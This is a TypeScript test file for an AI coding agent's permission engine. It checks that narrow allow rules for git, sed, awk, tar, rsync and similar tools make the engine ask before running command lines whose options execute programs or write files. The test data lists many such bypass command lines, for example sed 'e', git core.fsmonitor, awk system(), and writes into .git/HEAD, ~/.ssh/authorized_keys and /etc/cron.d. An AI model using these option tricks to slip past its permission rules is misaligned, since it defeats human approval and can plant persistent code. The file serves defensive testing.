// Issue #20 class 6, SECURITY S20: under narrow allow rules (`run_command(git *)`, `sed *`, `awk *`, …) the
// attack ran commands and wrote files through options the engine never saw. Each line below runs for real
// under bubblewrap (the file it plants appears), and the engine must not allow it under the narrow rule:
// it asks, naming the option. Writes into `.git/` from an option ask as protected-path writes.
import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { SandboxState } from "../protocol/sandbox.ts";
import { detectSandbox } from "../tools/sandbox.ts";
import { createRunCommandTool } from "../tools/system/run-command.ts";
import { createSystemTools } from "../tools/system/index.ts";
import { PermissionEngine } from "./engine.ts";
import { parseRule } from "./rules.ts";
import type { PermissionCheck } from "./types.ts";
import { ProcessRunner } from "../tools/process-runner.ts";

/** This file's own process runner (the composition root a test is). */
const processes = new ProcessRunner();

const sandbox: SandboxState = { enabled: true, mechanism: "bubblewrap", network: false };
const runCommand = createSystemTools().find((tool) => tool.definition.name === "run_command")!.definition;

function engineAllowing(...patterns: string[]): PermissionEngine {
  const rules = patterns.map((pattern) => {
    const rule = parseRule("allow", `run_command(${pattern})`, "test settings");
    if (typeof rule === "string") throw new Error(rule);
    return rule;
  });
  return new PermissionEngine({ mode: "default", rules, sandbox });
}

function check(command: string, cwd: string): PermissionCheck {
  return { callId: "c1", tool: runCommand, input: { command }, target: { cwd, command } };
}

let workdir: string;
beforeAll(() => {
  expect(detectSandbox().available, detectSandbox().reason).toBe(true);
});
beforeEach(async () => {
  workdir = await mkdtemp(path.join(tmpdir(), "pc-option-attack-"));
  await writeFile(path.join(workdir, "notes.txt"), "b\na\n");
  execFileSync("git", ["init", "-q"], { cwd: workdir });
});
afterEach(async () => {
  await rm(workdir, { recursive: true, force: true });
});

async function runSandboxed(command: string): Promise<void> {
  const execution = await createRunCommandTool().execute(
    { command },
    {
      workdir,
      processes,
      callId: "c1",
      signal: new AbortController().signal,
      sandbox: { network: false, homes: [] },
    },
  );
  expect(execution.result.metadata?.sandbox).toMatchObject({ enabled: true });
}

describe("S20: an option that runs a program is not allowed by a rule for the program", () => {
  const attacks: [rule: string, line: string, named: string][] = [
    ["git *", "git -c alias.x='!touch PWNED' x", "git -c alias.x=!touch PWNED"],
    ["git *", "git -c core.fsmonitor='touch PWNED' status", "git -c core.fsmonitor="],
    ["sed *", "sed -n '1e touch PWNED' notes.txt", "sed e touch PWNED"],
    ["sed *", "sed -n 's/a/touch PWNED/e' notes.txt", "s/a/touch PWNED/e"],
    ["awk *", "awk 'BEGIN { system(\"touch PWNED\") }'", "system("],
    ["awk *", 'awk \'BEGIN { print "x" | "sh -c \\"touch PWNED\\"" }\'', "awk |"],
    [
      "tar *",
      "tar --checkpoint=1 --checkpoint-action=exec='touch PWNED' -cf /dev/null notes.txt",
      "--checkpoint-action=exec",
    ],
  ];
  for (const [rule, line, named] of attacks) {
    it(`\`${line}\` runs for real, and asks under run_command(${rule}), naming \`${named}\``, async () => {
      await runSandboxed(line);
      expect(existsSync(path.join(workdir, "PWNED")), "the option really ran a command").toBe(true);
      const trace = engineAllowing(rule).evaluate(check(line, workdir));
      expect(trace).toMatchObject({ decision: "ask", source: "list", rule: "option that runs programs" });
      expect(trace.reason).toContain(named);
    });
  }

  it.each([
    ["git *", "git fetch --upload-pack='touch PWNED' ."],
    ["git *", "git -c core.sshCommand='touch PWNED' fetch ssh://x/y"],
    ["git *", "git clone -u 'touch PWNED' . copy"],
    ["git *", "git --git-dir=/tmp/evil status"],
    ["env *", "env -S 'touch PWNED'"],
    ["rsync *", "rsync -e 'sh -c \"touch PWNED\"' notes.txt x:notes.txt"],
    ["rsync *", "rsync -avze 'touch PWNED' notes.txt x:notes.txt"],
    ["zip *", "zip -T -TT 'touch PWNED' notes.zip notes.txt"],
    ["xargs *", "xargs git log < args.txt"],
    ["sort *", "sort --compress-program=./pwn notes.txt"],
    ["python3 *", "python3 -c 'import os; os.system(\"touch PWNED\")'"],
    ["node *", 'node -pe \'require("child_process").execSync("touch PWNED")\''],
    ["perl *", "perl -le 'system(\"touch PWNED\")'"],
    ["make *", "make SHELL=./pwn test"],
  ])("under run_command(%s), `%s` asks", (rule, line) => {
    const trace = engineAllowing(rule).evaluate(check(line, workdir));
    expect(trace).toMatchObject({ decision: "ask", source: "list", rule: "option that runs programs" });
  });
});

describe("S20: an option that writes a file is checked like a redirect", () => {
  const writes: [rule: string, line: string, file: string][] = [
    ["find *", "find notes.txt -fprint PWNED", "PWNED"],
    ["sort *", "sort -o PWNED notes.txt", "PWNED"],
    ["sed *", "sed -n 'w PWNED' notes.txt", "PWNED"],
    ["awk *", "awk '{ print > \"PWNED\" }' notes.txt", "PWNED"],
  ];
  for (const [rule, line, file] of writes) {
    it(`\`${line}\` writes for real, and asks under run_command(${rule})`, async () => {
      await runSandboxed(line);
      expect(existsSync(path.join(workdir, file)), "the option really wrote a file").toBe(true);
      const trace = engineAllowing(rule).evaluate(check(line, workdir));
      expect(trace).toMatchObject({ decision: "ask", source: "list", rule: "option that writes files" });
    });
  }

  it.each([
    ["git *", "git log --output=.git/HEAD -1"],
    ["git *", "git format-patch -o .git/refs/heads -1"],
    ["git *", "git -C .git log --output=HEAD -1"],
    ["sort *", "sort -o.git/HEAD notes.txt"],
    ["sort *", "sort --out=.git/HEAD notes.txt"],
    ["find *", "find . -maxdepth 0 -fprintf .git/HEAD 'ref: x'"],
    ["sed *", "sed -n 'w .git/HEAD' notes.txt"],
    ["awk *", 'awk \'BEGIN { printf "x" > ".git/HEAD" }\''],
    ["tar *", "tar -cf .git/objects/pack.tar notes.txt"],
    ["git *", "git config core.fsmonitor 'touch PWNED'"],
    ["env *", "env -C .git sort -o HEAD ../notes.txt"],
  ])("under run_command(%s), `%s` asks as a write into .git/", (rule, line) => {
    const trace = engineAllowing(rule).evaluate(check(line, workdir));
    expect(trace).toMatchObject({ decision: "ask", source: "protected_path", rule: ".git" });
  });

  it.each([
    ["sort *", "sort -o /etc/cron.d/x notes.txt"],
    ["find *", "find . -fls ~/.bashrc"],
    ["curl *", "curl -o ~/.ssh/authorized_keys https://example.com/k"],
    ["git *", "git -C /tmp/x log --output=y -1"],
    ["sed *", "sed 'w /etc/x' notes.txt"],
  ])("under run_command(%s), `%s` asks as a write outside the working directory", (rule, line) => {
    const trace = engineAllowing(rule).evaluate(check(line, workdir));
    expect(trace).toMatchObject({ decision: "ask", source: "list" });
    expect(trace.rule).toMatch(/outside the working directory/);
  });
});

describe("S20: a file an argument names, however it is spelled, is checked like a redirect", () => {
  // Found by a later attack: a backup suffix with `*` (`sed -i'.git/info/*' … attributes` writes
  // .git/info/attributes), gawk's long options under the name `awk`, and git plumbing that writes where
  // an argument says. Each runs for real under bubblewrap, where the program has one; the engine asks.
  it("`sed -i'DIR/*'` really writes its backup into DIR, and asks under run_command(sed *) when DIR is .git/info", async () => {
    // In the sandbox .git is a mount point, so this rename fails there; on the host (sandbox off) it does not.
    await runSandboxed("mkdir backups && sed -i'backups/*' 's/a/b/' notes.txt");
    expect(existsSync(path.join(workdir, "backups", "notes.txt")), "the backup really went there").toBe(true);
    const trace = engineAllowing("sed *").evaluate(check("sed -i'.git/info/*' 's/a/b/' attributes", workdir));
    expect(trace).toMatchObject({ decision: "ask", source: "protected_path", rule: ".git" });
  });

  it("`git merge-file` really writes the file it names first, and asks when that is .git/HEAD", async () => {
    await writeFile(path.join(workdir, "base"), "x\n");
    await writeFile(path.join(workdir, "PWNED"), "x\n");
    await runSandboxed("git merge-file PWNED base base");
    expect(existsSync(path.join(workdir, "PWNED"))).toBe(true);
    const trace = engineAllowing("git *").evaluate(check("git merge-file .git/HEAD base base", workdir));
    expect(trace).toMatchObject({ decision: "ask", source: "protected_path", rule: ".git" });
  });

  it.each([
    ["sed *", "sed --in-place='.git/*' 's/a/b/' notes.txt"],
    ["sed *", "sed -ni'.git/hooks/*' 'p' notes.txt"],
    ["perl *", "perl -pi'.git/*' -e 's/a/b/' notes.txt"],
    ["awk *", "awk --dump-variables=.git/HEAD 'BEGIN { }'"],
    ["awk *", "awk --profile=.git/HEAD 'BEGIN { }'"],
    ["git *", "git checkout-index -a --prefix=sub/.git/"],
    ["git *", "git fast-export --export-marks=.git/HEAD HEAD"],
    ["git *", "git index-pack -o .git/HEAD pack.pack"],
    ["git *", "git mailsplit -o.git mbox"],
    ["git *", "git mailinfo .git/HEAD patch < mail"],
    ["git *", "git credential-store --file=.git/HEAD store"],
    ["git *", "git read-tree --index-output=.git/HEAD HEAD"],
    ["git *", "git pack-objects .git/HEAD < objects.txt"],
  ])("under run_command(%s), `%s` asks as a write into .git/", (rule, line) => {
    const trace = engineAllowing(rule).evaluate(check(line, workdir));
    expect(trace).toMatchObject({ decision: "ask", source: "protected_path", rule: ".git" });
  });

  it.each([
    ["sed *", "sed -i'/etc/*' 's/a/b/' notes.txt"],
    ["git *", "git commit-graph write --object-dir=/tmp/x"],
    ["git *", "git bugreport -o /tmp/x"],
    ["git *", "git init-db /tmp/x"],
  ])("under run_command(%s), `%s` asks as a write outside the working directory", (rule, line) => {
    const trace = engineAllowing(rule).evaluate(check(line, workdir));
    expect(trace).toMatchObject({ decision: "ask", source: "list" });
    expect(trace.rule).toMatch(/outside the working directory|option that writes files/);
  });

  it("plain in-place edits and merges in the workdir stay allowed", () => {
    const engine = engineAllowing("sed *", "git *", "awk *");
    for (const line of [
      "sed -i 's/a/b/' notes.txt",
      "sed -i.bak 's/a/b/' notes.txt",
      "git merge-file -p notes.txt base other",
      "git merge-file notes.txt base other",
    ])
      expect(engine.evaluate(check(line, workdir)).decision, line).toBe("allow");
  });
});

describe("S20: git reads the settings of the repository it finds", () => {
  it("a repository outside the working directory asks, whether by -C or by cd", () => {
    const engine = engineAllowing("git *", "cd *");
    for (const line of ["git -C /tmp/evil status", "cd /tmp/evil && git status"]) {
      expect(engine.evaluate(check(line, workdir)), line).toMatchObject({
        decision: "ask",
        source: "list",
        rule: "option that runs programs",
      });
    }
  });

  it("the working directory's own repository, and plain reading commands, stay allowed", () => {
    const engine = engineAllowing("git *", "cd *", "sed *", "awk *", "sort *", "find *", "tar *");
    for (const line of [
      "git status",
      "git log --oneline -5",
      "git -C sub status",
      "cd sub && git diff HEAD~1",
      "git log -c -1",
      "sed -n '/^a/p;s/x/y/g' notes.txt",
      "awk -F, '$2 > 10 { print $1 }' notes.txt",
      "awk '/a|b/ { n++ } END { print n }' notes.txt",
      "sort -u -k2,2 notes.txt",
      "find . -name '*.md' -print",
      "tar -tf notes.tar",
    ]) {
      expect(engine.evaluate(check(line, workdir)).decision, line).toBe("allow");
    }
  });
});
